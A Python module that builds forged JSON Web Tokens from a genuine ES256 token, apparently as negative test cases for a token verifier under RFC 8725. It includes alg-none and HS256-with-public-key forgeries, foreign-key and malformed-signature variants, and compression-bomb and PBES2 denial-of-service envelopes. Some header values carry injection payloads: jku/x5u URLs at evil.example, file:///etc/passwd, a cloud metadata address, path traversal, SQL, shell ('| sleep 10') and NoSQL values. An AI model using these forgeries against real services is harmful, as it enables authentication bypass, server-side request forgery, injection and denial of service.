"""Tokens that try to be taken for others (RFC 8725 §2): made by hand, since no library would make most of them.

Each attack is a function of a genuine token, of which its author has the text and the public key. Where the signer
itself is careless (`crit`, a member twice), the token is signed with the genuine key.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from functools import cache
from typing import Any, Final

import jwt
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

ORDER: Final = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
"""Of the group of P-256."""


def encoded(octets: bytes) -> str:
    """Base64url without padding."""
    return base64.urlsafe_b64encode(octets).rstrip(b"=").decode()


def decoded(segment: str) -> bytes:
    """The octets of a segment."""
    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


def segment(content: object) -> str:
    """A segment of octets, of text as it is, or of anything else as JSON."""
    if isinstance(content, bytes):
        return encoded(content)
    return encoded((content if isinstance(content, str) else json.dumps(content)).encode())


@dataclass(frozen=True, slots=True)
class Genuine:
    """A token that is believed, signed with ES256, its signer, and the published key that it is verified with.

    `encryption_key` is the published key that anybody may encrypt for.
    """

    token: str
    sign: Callable[[bytes], bytes] = field(repr=False)
    jwk: Mapping[str, Any]
    encryption_key: Mapping[str, Any] = field(default_factory=dict)

    @property
    def header(self) -> dict[str, Any]:
        """Its header."""
        return dict(json.loads(decoded(self.token.split(".")[0])))

    @property
    def claims(self) -> dict[str, Any]:
        """Its claims."""
        return dict(json.loads(decoded(self.token.split(".")[1])))

    @property
    def signature(self) -> bytes:
        """Its signature."""
        return decoded(self.token.split(".")[2])

    def signed(self, header: object = None, claims: object = None) -> str:
        """Another token by the same signer, whatever it says."""
        head, payload = (
            (self.header if header is None else header),
            (self.claims if claims is None else claims),
        )
        start = f"{segment(head)}.{segment(payload)}"
        return f"{start}.{encoded(self.sign(start.encode()))}"

    def with_header(self, **members: object) -> str:
        """By the same signer, with more in the header; None takes a member away."""
        kept = {name: value for name, value in (self.header | members).items() if value is not None}
        return self.signed(kept)

    def kept(self, signature: str | None = None, **members: object) -> str:
        """The header changed under the signature of the old one, or under another."""
        _, payload, own = self.token.split(".")
        return f"{segment(self.header | members)}.{payload}.{own if signature is None else signature}"

    def strangers(self, *, without: tuple[str, ...] = (), **members: object) -> str:
        """The same claims, signed with a key that nobody has registered."""
        header = {name: value for name, value in (self.header | members).items() if name not in without}
        start = f"{segment(header)}.{self.token.split('.')[1]}"
        return f"{start}.{encoded(raw_signature(start.encode()))}"

    def keyed(self, secret: bytes, digest: str = "sha256", **members: object) -> str:
        """The same claims under a MAC (RFC 8725 §2.1): what is public would be the secret."""
        header = (
            self.header | {"alg": {"sha256": "HS256", "sha384": "HS384", "sha512": "HS512"}[digest]} | members
        )
        start = f"{segment(header)}.{self.token.split('.')[1]}"
        return f"{start}.{encoded(hmac.digest(secret, start.encode(), getattr(hashlib, digest)))}"

    @property
    def public_key(self) -> ec.EllipticCurvePublicKey:
        """The published key."""
        key = jwt.PyJWK({**self.jwk, "alg": "ES256"}).key
        assert isinstance(key, ec.EllipticCurvePublicKey)
        return key


@cache
def strangers_key() -> ec.EllipticCurvePrivateKey:
    """A key that nobody has registered."""
    return ec.generate_private_key(ec.SECP256R1())


def strangers_jwk(**members: Any) -> dict[str, Any]:
    """Its public half."""
    return {
        **jwt.get_algorithm_by_name("ES256").to_jwk(strangers_key().public_key(), as_dict=True),
        **members,
    }


def raw_signature(message: bytes, key: ec.EllipticCurvePrivateKey | None = None) -> bytes:
    """ES256 as it stands in a JWS (RFC 7518 §3.4)."""
    r, s = decode_dss_signature((key or strangers_key()).sign(message, ec.ECDSA(SHA256())))
    return r.to_bytes(32, "big") + s.to_bytes(32, "big")


def _pair(r: int, s: int) -> str:
    return encoded(r.to_bytes(32, "big") + s.to_bytes(32, "big"))


def _in_der(genuine: Genuine) -> str:
    raw = genuine.signature
    return encoded(encode_dss_signature(int.from_bytes(raw[:32], "big"), int.from_bytes(raw[32:], "big")))


def _spki(genuine: Genuine, encoding: Encoding) -> bytes:
    return genuine.public_key.public_bytes(encoding, PublicFormat.SubjectPublicKeyInfo)


def _parts(genuine: Genuine) -> list[str]:
    return genuine.token.split(".")


def _envelope(content: bytes, **header: object) -> str:
    """Five segments, of which nobody has the key."""
    return f"{segment(header)}.AAAA.AAAAAAAAAAAAAAAA.{segment(content)}.AAAAAAAAAAAAAAAAAAAAAA"


def _doubled(content: Mapping[str, Any], name: str, value: object) -> str:
    """An object with a member twice: first another value, then its own."""
    return "{" + json.dumps({name: value})[1:-1] + "," + json.dumps(content)[1:]


def _other_last_letter(token: str) -> str:
    """The same octets in another spelling: bits behind the last octet that are not zero (RFC 4648 §3.5)."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return token[:-1] + alphabet[alphabet.index(token[-1]) ^ 1]


Attack = Callable[[Genuine], str]

UNSECURED: Final[Mapping[str, Attack]] = {
    "alg none, no signature": lambda g: g.kept("", alg="none"),
    "alg none, the signature kept": lambda g: g.kept(alg="none"),
    "alg None, no signature": lambda g: g.kept("", alg="None"),
    "alg NONE, the signature kept": lambda g: g.kept(alg="NONE"),
    "alg nOnE, no signature": lambda g: g.kept("", alg="nOnE"),
    "alg none and a blank": lambda g: g.kept(alg="none "),
    "alg none without typ and kid": lambda g: f"{segment({'alg': 'none'})}.{_parts(g)[1]}.",
    "alg none in two segments": lambda g: f"{segment({'alg': 'none'})}.{_parts(g)[1]}",
    "alg empty": lambda g: g.kept(alg=""),
    "alg null": lambda g: g.kept(alg=None),
    "alg is a list": lambda g: g.kept(alg=["ES256"]),
    "alg is a number": lambda g: g.kept(alg=256),
    "alg is an object": lambda g: g.kept(alg={"ES256": "none"}),
    "alg is missing": lambda g: g.with_header(alg=None),
    "alg twice, none first": lambda g: g.signed(_doubled(g.header, "alg", "none")),
    "alg in small letters": lambda g: g.with_header(alg="es256"),
    "no signature at all": lambda g: g.kept(""),
}
KEYED: Final[Mapping[str, Attack]] = {
    "HS256 with the public key as PEM": lambda g: g.keyed(_spki(g, Encoding.PEM)),
    "HS256 with the public key as PEM in one line": lambda g: g.keyed(_spki(g, Encoding.PEM).strip()),
    "HS384 with the public key as PEM": lambda g: g.keyed(_spki(g, Encoding.PEM), "sha384"),
    "HS512 with the public key as PEM": lambda g: g.keyed(_spki(g, Encoding.PEM), "sha512"),
    "HS256 with the public key as DER": lambda g: g.keyed(_spki(g, Encoding.DER)),
    "HS256 with the public key as JSON": lambda g: g.keyed(json.dumps(dict(g.jwk)).encode()),
    "HS256 with x": lambda g: g.keyed(decoded(g.jwk["x"])),
    "HS256 with x as text": lambda g: g.keyed(g.jwk["x"].encode()),
    "HS256 with the key's point": lambda g: g.keyed(
        g.public_key.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
    ),
    "HS256 with kid": lambda g: g.keyed(str(g.jwk["kid"]).encode()),
    "HS256 with nothing": lambda g: g.keyed(b""),
    "HS256 with a zero": lambda g: g.keyed(b"\0"),
    "HS256 with null": lambda g: g.keyed(b"null"),
    "HS256 with an empty file by kid": lambda g: g.keyed(b"", kid="../../../../../../dev/null"),
    "HS256 with a secret in the header": lambda g: g.keyed(
        b"k" * 32, jwk={"kty": "oct", "k": encoded(b"k" * 32)}
    ),
}
OTHER_ALGORITHMS: Final[Mapping[str, Attack]] = {
    f"{alg} by name": lambda g, alg=alg: g.with_header(alg=alg)  # type: ignore[misc]
    for alg in (
        "ES384",
        "ES512",
        "ES256K",
        "RS256",
        "PS256",
        "RS1",
        "EdDSA",
        "Ed25519",
        "ML-DSA-65",
        "A256KW",
        "dir",
    )
}
FOREIGN_KEYS: Final[Mapping[str, Attack]] = {
    "a stranger's key under the kid": lambda g: g.strangers(),
    "a stranger's key without kid": lambda g: g.strangers(without=("kid",)),
    "a stranger's key under its own kid": lambda g: g.strangers(kid="stranger"),
    "jwk in the header": lambda g: g.strangers(jwk=strangers_jwk()),
    "jwk in the header under its own kid": lambda g: g.strangers(kid="s", jwk=strangers_jwk(kid="s")),
    "jwk in the header without kid": lambda g: g.strangers(without=("kid",), jwk=strangers_jwk()),
    "jku elsewhere": lambda g: g.strangers(jku="https://evil.example/jwks"),
    "jku that begins like ours": lambda g: g.strangers(jku="https://sso.example.gov.vn@evil.example/jwks"),
    "jku of a file": lambda g: g.strangers(kid="s", jku="file:///etc/passwd"),
    "jku within": lambda g: g.strangers(kid="s", jku="http://169.254.169.254/latest/meta-data/"),
    "x5u elsewhere": lambda g: g.strangers(x5u="https://evil.example/certificate.pem"),
    "x5u without kid": lambda g: g.strangers(without=("kid",), x5u="https://evil.example/certificate.pem"),
    "x5c of a stranger": lambda g: g.strangers(without=("kid",), x5c=["MIIBszCCAVmgAwIBAgIUAAAA"]),
    "x5t of nothing": lambda g: g.strangers(without=("kid",), x5t="AAAA", **{"x5t#S256": "AAAA"}),
    "kid of a file": lambda g: g.strangers(kid="../../../../etc/passwd"),
    "kid of a query": lambda g: g.strangers(kid="x' UNION SELECT 'AAAA' --"),
    "kid of a command": lambda g: g.strangers(kid="| sleep 10"),
    "kid of an address": lambda g: g.strangers(kid="https://evil.example/key"),
    "kid with a NUL": lambda g: g.with_header(kid=f"{g.header['kid']}\0"),
    "kid with a blank": lambda g: g.with_header(kid=f"{g.header['kid']} "),
    "kid in other letters": lambda g: g.with_header(kid=str(g.header["kid"]).swapcase()),
    "kid empty": lambda g: g.strangers(kid=""),
    "kid null": lambda g: g.strangers(kid=None),
    "kid is a list": lambda g: g.with_header(kid=[g.header["kid"]]),
    "kid is an object": lambda g: g.with_header(kid={"$ne": ""}),
    "kid is a number": lambda g: g.with_header(kid=0),
    "kid is true": lambda g: g.with_header(kid=True),
    "kid twice": lambda g: g.signed(_doubled(g.header, "kid", "stranger")),
    "kid of the key for encryption": lambda g: g.strangers(kid=g.encryption_key["kid"]),
    "kid that is giant": lambda g: g.strangers(kid="k" * 5_000),
}  # fmt: skip
SIGNATURES: Final[Mapping[str, Attack]] = {
    "a signature of zeros": lambda g: g.kept(_pair(0, 0)),
    "r is zero": lambda g: g.kept(_pair(0, 1)),
    "s is zero": lambda g: g.kept(_pair(1, 0)),
    "r and s are the order": lambda g: g.kept(_pair(ORDER, ORDER)),
    "r beyond the order": lambda g: g.kept(
        _pair(
            (int.from_bytes(g.signature[:32], "big") + ORDER) % (1 << 256),
            int.from_bytes(g.signature[32:], "big"),
        )
    ),
    "a signature in DER": lambda g: g.kept(_in_der(g)),
    "a signature cut short": lambda g: g.token[:-4],
    "a signature that goes on": lambda g: f"{g.token}AAAA",
    "a signature twice": lambda g: g.token + _parts(g)[2],
    "a signature of another": lambda g: g.kept(encoded(g.sign(b"something else"))),
    "a signature with padding": lambda g: f"{g.token}==",
    "a signature in the other alphabet": lambda g: g.kept(
        base64.b64encode(g.signature[:-1] + b"\xfb").decode().rstrip("=").replace("A", "+")
    ),
    "a signature in another spelling": lambda g: _other_last_letter(g.token),
    "one letter of the claims changed": lambda g: g.token.replace(_parts(g)[1], _parts(g)[1][:-2] + "AA"),
    "claims of another": lambda g: ".".join(
        (_parts(g)[0], segment(g.claims | {"sub": "another", "scope": "openid pid"}), _parts(g)[2])
    ),
    "the header changed": lambda g: g.kept(cty="JWT"),
}  # fmt: skip
UNDERSTOOD: Final[Mapping[str, Attack]] = {
    "crit of something unknown": lambda g: g.with_header(crit=["vn.example"], **{"vn.example": True}),
    "crit of exp": lambda g: g.with_header(crit=["exp"], exp=1),
    "crit of b64": lambda g: g.with_header(crit=["b64"], b64=False),
    "crit of alg": lambda g: g.with_header(crit=["alg"]),
    "crit of nothing": lambda g: g.with_header(crit=[]),
    "crit of what is missing": lambda g: g.with_header(crit=["missing"]),
    "crit is text": lambda g: g.with_header(crit="exp"),
    "crit is false": lambda g: g.with_header(crit=False),
    "crit twice": lambda g: g.with_header(crit=["exp", "exp"], exp=1),
    "b64 false without crit": lambda g: g.with_header(b64=False),
    "b64 true": lambda g: g.with_header(b64=True),
}
SHAPES: Final[Mapping[str, Attack]] = {
    "header is a list": lambda g: g.signed([g.header]),
    "header is text": lambda g: g.signed('"ES256"'),
    "header is a number": lambda g: g.signed("7"),
    "header is null": lambda g: g.signed("null"),
    "header is true": lambda g: g.signed("true"),
    "header is empty": lambda g: g.signed("{}"),
    "header is nothing": lambda g: f".{_parts(g)[1]}.{_parts(g)[2]}",
    "header is not UTF-8": lambda g: g.signed(b'{"alg":"ES256","kid":"\xff"}'),
    "header is UTF-16": lambda g: g.signed(json.dumps(g.header).encode("utf-16")),
    "header with a byte order mark": lambda g: g.signed(b"\xef\xbb\xbf" + json.dumps(g.header).encode()),
    "header with something behind": lambda g: g.signed(json.dumps(g.header) + "{}"),
    "header with NaN": lambda g: g.signed(json.dumps(g.header)[:-1] + ',"x":NaN}'),
    "header with a comment": lambda g: g.signed(json.dumps(g.header) + "/**/"),
    "header that is deep": lambda g: g.signed('{"x":' * 1_200 + "1" + "}" * 1_200),
    "header that is a number of many digits": lambda g: g.signed(json.dumps(g.header)[:-1] + f',"x":{"9" * 3_000}}}'),
    "payload is a list": lambda g: g.signed(claims=[g.claims]),
    "payload is text": lambda g: g.signed(claims=json.dumps(json.dumps(g.claims))),
    "payload is a number": lambda g: g.signed(claims="7"),
    "payload is null": lambda g: g.signed(claims="null"),
    "payload is nothing": lambda g: g.signed(claims=b""),
    "payload is not JSON": lambda g: g.signed(claims="sub=p-hoa"),
    "payload is not UTF-8": lambda g: g.signed(claims=b'{"sub":"\xff"}'),
    "payload is UTF-16": lambda g: g.signed(claims=json.dumps(g.claims).encode("utf-16")),
    "payload with something behind": lambda g: g.signed(claims=json.dumps(g.claims) + "}"),
    "payload that is deep": lambda g: g.signed(claims='{"x":' * 1_200 + "1" + "}" * 1_200),
    "payload with half a character": lambda g: g.signed(claims=json.dumps(g.claims)[:-1] + ',"x":"\\ud800"}'),
    "flattened JSON": lambda g: json.dumps(dict(zip(("protected", "payload", "signature"), _parts(g), strict=True))),
    "general JSON": lambda g: json.dumps(
        {
            "payload": _parts(g)[1],
            "signatures": [{"protected": _parts(g)[0], "signature": _parts(g)[2], "header": {"kid": "x"}}],
        }
    ),
    "payload left out": lambda g: f"{_parts(g)[0]}..{_parts(g)[2]}",
    "two segments": lambda g: ".".join(_parts(g)[:2]),
    "four segments": lambda g: f"{g.token}.{_parts(g)[2]}",
    "six segments": lambda g: f"{g.token}.{g.token}",
    "one segment": lambda g: _parts(g)[0],
    "a dot before": lambda g: f".{g.token}",
    "a dot behind": lambda g: f"{g.token}.",
    "only dots": lambda _: "." * 2,
    "many dots": lambda _: "." * 3_000,
    "a blank within": lambda g: g.token.replace(".", ". ", 1),
    "a tab within": lambda g: g.token.replace(".", "\t.", 1),
    "a scheme before": lambda g: f"Bearer {g.token}",
    "two tokens": lambda g: f"{g.token},{g.token}",
    "a dot in another spelling": lambda g: g.token.replace(".", "%2E"),
}  # fmt: skip
NESTED: Final[Mapping[str, Attack]] = {
    "signed around the genuine one": lambda g: g.signed({**g.header, "cty": "JWT"}, g.token),
    "a stranger's signature around the genuine one": lambda g: (
        f"{segment({**g.header, 'cty': 'JWT'})}.{segment(g.token)}.{encoded(raw_signature(b''))}"
    ),
    "the genuine one as a claim": lambda g: g.strangers(kid="s", jwk=strangers_jwk(), token=g.token),
    "encrypted with no key": lambda g: _envelope(g.token.encode(), alg="dir", enc="A256GCM"),
    "encrypted with a password": lambda g: _envelope(
        g.token.encode(), alg="PBES2-HS256+A128KW", enc="A256GCM", p2s="AAAAAAAAAAA", p2c=2_000_000_000
    ),
    "encrypted by RSA1_5": lambda g: _envelope(g.token.encode(), alg="RSA1_5", enc="A128CBC-HS256"),
    "encrypted and a bomb": lambda _: _envelope(
        zlib.compress(b"\0" * 1_000_000), alg="ECDH-ES", enc="A256GCM", zip="DEF"
    ),
    "encrypted from a point off the curve": lambda g: _envelope(
        b"x",
        alg="ECDH-ES",
        enc="A256GCM",
        kid=g.encryption_key["kid"],
        epk={"kty": "EC", "crv": "P-256", "x": encoded(bytes(31) + b"\1"), "y": encoded(bytes(31) + b"\1")},
    ),
    "encrypted from no point": lambda _: _envelope(b"x", alg="ECDH-ES", enc="A256GCM", epk={}),
    "encrypted in the name of alg none": lambda g: _envelope(g.token.encode(), alg="none", enc="none"),
}
GIANT: Final[Mapping[str, Attack]] = {
    "claims that are giant": lambda g: g.signed(claims={**g.claims, "x": "x" * 13_000}),
    "a header that is giant": lambda g: g.with_header(x="x" * 13_000),
    "a signature that is giant": lambda g: g.token + "A" * 15_000,
    "sixty kilobytes": lambda g: g.signed(claims={**g.claims, "x": "x" * 40_000}),
    "a megabyte": lambda g: g.token + "A" * 1_000_000,
    "thousands of members": lambda g: g.signed({**g.header, **{f"x{number}": 1 for number in range(1_500)}}),
}  # fmt: skip

KINDS: Final[Mapping[str, Mapping[str, Attack]]] = {
    "unsecured": UNSECURED,
    "a public key as secret": KEYED,
    "another algorithm": OTHER_ALGORITHMS,
    "another key": FOREIGN_KEYS,
    "another signature": SIGNATURES,
    "what must be understood": UNDERSTOOD,
    "another shape": SHAPES,
    "nested": NESTED,
    "giant": GIANT,
}
"""All of them, each by its name."""
